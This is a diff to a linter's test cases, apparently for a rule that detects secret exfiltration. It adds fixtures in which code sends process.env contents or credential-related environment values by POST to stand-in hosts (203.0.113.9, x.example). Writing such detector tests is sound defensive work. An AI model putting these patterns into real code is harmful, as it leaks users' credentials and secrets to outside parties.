@@ -3,6 +3,15 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'the environment in options that are spread, of which that part is sent',
+      files: {
+        'index.js':
+          "const { report } = require('./lib.js');\nconst all = { data: { ...process.env } };\nreport({ ...all, version: '1' })",
+        'lib.js':
+          "exports.report = (opts) => fetch('https://203.0.113.9/', { method: 'POST', body: JSON.stringify(opts.data) })",
+      },
+    },
+    {
       name: 'all tokens in the configuration of a client',
       files: {
         'cli.js':
@@ -420,6 +429,18 @@ export default defineCases({
     {
       name: 'settings of a server of its own, of which none says whose they are',
       code: "const config = { key: process.env.API_KEY, header: process.env.API_KEY_HEADER, where: process.env.AUTH_DISCOVERY_URL, how: process.env.AUTH_STRATEGY, token: process.env.BEARER_TOKEN, secret: process.env.OAUTH_CLIENT_SECRET };\nfetch(process.env.TOKEN_URL, { method: 'POST', body: JSON.stringify(config) })",
+    },
+    {
+      name: 'the environment beside what is sent in many parts',
+      files: {
+        'index.js': "require('./lib.js').ensure({ env: process.env, base: 'https://x.example' })",
+        'lib.js':
+          'exports.ensure = ({ env, base }) => { fetch(base); fetch(base.a0); fetch(base.a1); fetch(base.a2); fetch(base.a3); fetch(base.a4); fetch(base.a5); fetch(base.a6); fetch(base.a7); fetch(base.a8); fetch(base.a9); fetch(base.a10); fetch(base.a11); fetch(base.a12); fetch(base.a13); return env.WEATHER_URL }',
+      },
+    },
+    {
+      name: 'what is told about credentials of several vendors',
+      code: "const told = [process.env.ACME_AUTH_URL, process.env.BETA_API_KEY_HEADER, process.env.GAMMA_TOKEN_TTL];\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(told) })",
     },
     {
       name: 'a proxy from the environment',
